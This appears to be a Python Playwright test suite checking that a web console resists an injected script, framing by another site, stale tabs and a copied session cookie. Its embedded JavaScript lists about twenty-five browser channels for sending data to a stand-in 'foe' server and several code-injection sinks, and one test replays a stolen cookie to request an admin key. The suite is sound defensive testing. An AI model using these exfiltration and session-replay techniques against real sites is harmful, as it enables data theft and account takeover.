"""A foe at the console: a script that got into a page, pages of other sites around it, a tab that
stays open, and a session that was copied."""

import http.server
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

import httpx
import pytest
from playwright.sync_api import Browser, Page, expect

from testing.second_try import second_try
from tests.console.conftest import heading, leave, visiting
from tests.console.shop import Shop, box, shop
from tests.support.examples import rest

pytestmark = rest

__all__ = ["box", "shop"]
pytest_itemcollected = second_try("chromium")


@contextmanager
def site() -> Iterator[tuple[str, list[str]]]:
    """Another site; yield its URL and the paths that it was asked for."""
    asked: list[str] = []

    class Foe(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()
            self.wfile.write(b"<h1>Another site</h1>")

        def do_POST(self) -> None:
            self.do_GET()

        def do_OPTIONS(self) -> None:
            self.do_GET()

        def log_message(self, *_said: object) -> None:
            """Say nothing."""

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Foe) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        try:
            yield f"http://localhost:{server.server_address[1]}", asked
        finally:
            server.shutdown()
            thread.join()


SEND = """
async (foe) => {
  const loads = (tag, fields) => {
    const made = Object.assign(document.createElement(tag), fields);
    const ends = new Promise((done) => { made.onload = made.onerror = done; });
    (tag === "link" || tag === "base" ? document.head : document.body).append(made);
    return ends;
  };
  const ways = {
    fetch: () => fetch(`${foe}/fetch`, { mode: "no-cors", keepalive: true }),
    beacon: () => navigator.sendBeacon(`${foe}/beacon`, "names"),
    socket: () => new WebSocket(foe.replace("http", "ws")),
    events: () => new EventSource(`${foe}/events`),
    image: () => loads("img", { src: `${foe}/image` }),
    set: () => loads("img", { srcset: `${foe}/set 2x` }),
    video: () => loads("video", { src: `${foe}/video`, poster: `${foe}/poster` }),
    style: () => loads("link", { rel: "stylesheet", href: `${foe}/style` }),
    icon: () => loads("link", { rel: "icon", href: `${foe}/icon` }),
    manifest: () => loads("link", { rel: "manifest", href: `${foe}/manifest` }),
    prefetch: () => loads("link", { rel: "prefetch", href: `${foe}/prefetch` }),
    preload: () => loads("link", { rel: "preload", as: "image", href: `${foe}/preload` }),
    module: () => loads("link", { rel: "modulepreload", href: `${foe}/module` }),
    import: () => import(`${foe}/import`),
    script: () => loads("script", { src: `${foe}/script` }),
    frame: () => loads("iframe", { src: `${foe}/frame` }),
    embed: () => loads("embed", { src: `${foe}/embed` }),
    object: () => loads("object", { data: `${foe}/object` }),
    font: () => new FontFace("foe", `url(${foe}/font)`).load(),
    painted: () => { document.body.style.backgroundImage = `url(${foe}/painted)`; },
    base: () => loads("base", { href: `${foe}/base/` }),
    form: () => {
      const form = Object.assign(document.createElement("form"), { action: `${foe}/form` });
      document.body.append(form);
      form.submit();
    },
    ping: () => {
      const fields = { href: "#/people", ping: `${foe}/ping` };
      const link = Object.assign(document.createElement("a"), fields);
      document.body.append(link);
      link.click();
    },
    worker: () => new Worker(`${foe}/worker`),
    served: () => navigator.serviceWorker.register(`${foe}/served`),
  };
  const late = () => new Promise((done) => { setTimeout(done, 300); });
  for (const act of Object.values(ways)) {
    try { await Promise.race([act(), late()]); } catch { }
  }
  await late();
}
"""
"""Sends what it read to another site in each way that a policy governs."""

RUN = """
async () => {
  await new Promise((done) => { setTimeout(done); }); // the debugger's own call may eval
  const element = (tag, fields) => Object.assign(document.createElement(tag), fields);
  const ways = {
    eval: () => eval("1"),
    made: () => new Function("return 1")(),
    later: () => setTimeout("1"),
    markup: () => { element("div", {}).innerHTML = "<b>"; },
    page: () => { element("iframe", {}).srcdoc = "<b>"; },
    written: () => document.write("<b>"),
    parsed: () => new DOMParser().parseFromString("<b>", "text/html"),
    script: () => element("script", { text: "1" }),
    worker: () => new Worker(URL.createObjectURL(new Blob(["1"]))),
    policy: () => trustedTypes.createPolicy("default", { createHTML: (text) => text }),
  };
  const didRun = (act) => { try { act(); return true; } catch { return false; } };
  return Object.keys(ways).filter((name) => didRun(ways[name]));
}
"""
"""Makes code or markup of a text in each way; return those that did."""


@pytest.fixture
def people(shop: Shop) -> Iterator[Page]:
    page = shop.open()
    expect(page.get_by_text("Ann Lee").first).to_be_visible()
    yield page
    shop.visitor.complaints.clear()  # the browser tells all that the policy forbade
    shop.visitor.requests.clear()


def test_a_script_that_got_in_sends_nothing_elsewhere_but_by_going_there(people: Page) -> None:
    """No policy of a page governs where the browser goes, nor WebRTC's packets."""
    with site() as (foe, asked):
        people.evaluate(SEND, foe)
        assert asked == []
        people.goto(f"{foe}/gone")
        assert asked[:1] == ["/gone"]


def test_no_text_becomes_code_or_markup(people: Page) -> None:
    assert people.evaluate(RUN) == []
    assert people.evaluate("document.cookie") == "", "a script reads no session"
    kept = people.evaluate("JSON.stringify([{ ...localStorage }, { ...sessionStorage }])")
    assert "Ann" not in kept


def test_another_site_neither_frames_the_console_nor_holds_its_window(
    shop: Shop, browser: Browser
) -> None:
    frame = """(url) => new Promise((done) => {
      const frame = Object.assign(document.createElement("iframe"), { src: url, onload: done });
      document.body.append(frame);
    })"""
    with site() as (foe, _), visiting(browser, shop.visitor.book, None) as visitor:
        page = visitor.context.new_page()
        page.goto(foe)
        page.evaluate(frame, f"{shop.box.url}/console")
        assert [one.url for one in page.frames[1:]] == ["chrome-error://chromewebdata/"]
        with visitor.context.expect_page() as opening:
            page.evaluate("(url) => { globalThis.opened = open(url); }", f"{shop.box.url}/console")
        opened = opening.value
        expect(opened.locator("h1")).to_be_visible()
        assert page.evaluate("globalThis.opened.closed"), "all that it sees is a closed window"
        assert opened.evaluate("globalThis.opener") is None
        visitor.complaints.clear()
        visitor.requests.clear()


def test_who_signs_out_in_one_tab_shows_nobody_in_another(shop: Shop) -> None:
    """A tab in the background, and one that "back" would show again, hear of it and forget."""
    other = shop.open()
    expect(other.get_by_text("Ann Lee").first).to_be_visible()
    page = shop.visitor.open("#/settings")
    page.get_by_role("button", name="Sign out").click()
    heading(page, "Regulars")
    heading(other, "Regulars")
    assert "Ann" not in other.inner_text("body")
    other.go_back()
    assert "Ann" not in other.inner_text("body")
    shop.visitor.forgive("401")
    leave(page)


def test_what_waits_behind_undo_in_one_tab_is_done_before_another_signs_out(shop: Shop) -> None:
    with shop.box.client() as client:
        camera = client.add_camera(name="Back door").id
        other = shop.open(f"#/cameras/{camera}")
        other.get_by_role("button", name="Delete this camera").click()
        expect(other.get_by_role("button", name="Undo")).to_be_visible()
        page = shop.visitor.open("#/settings")
        assert camera in {one.id for one in client.list_cameras().cameras}, "it waits"
        page.get_by_role("button", name="Sign out").click()
        heading(page, "Regulars")
        heading(other, "Regulars")
        assert camera not in {one.id for one in client.list_cameras().cameras}
    shop.visitor.forgive("401")
    leave(page)


def test_a_copied_session_ends_with_the_one_that_it_was_copied_of(shop: Shop) -> None:
    page = shop.open()
    expect(page.get_by_text("Ann Lee").first).to_be_visible()
    [cookie] = [one for one in shop.visitor.context.cookies() if "regulars" in one["name"]]
    thief = {"Cookie": f"{cookie['name']}={cookie['value']}"}
    asks: list[tuple[str, str, Any]] = [
        ("GET", "faces", None),
        ("POST", "keys", {"name": "thief", "role": "admin"}),
    ]

    def ask(**headers: str) -> list[int]:
        return [
            httpx.request(
                method, f"{shop.box.url}/v1/{path}", json=body, headers={**thief, **headers}
            ).status_code
            for method, path, body in asks
        ]

    assert ask(Origin="https://foe.example") == [200, 403], "a page of another site changes nothing"
    page.goto(f"{shop.box.url}/console#/settings")
    page.get_by_role("button", name="Sign out").click()
    heading(page, "Regulars")
    assert ask(Origin=shop.box.url) == [401, 401]
    shop.visitor.forgive("401")
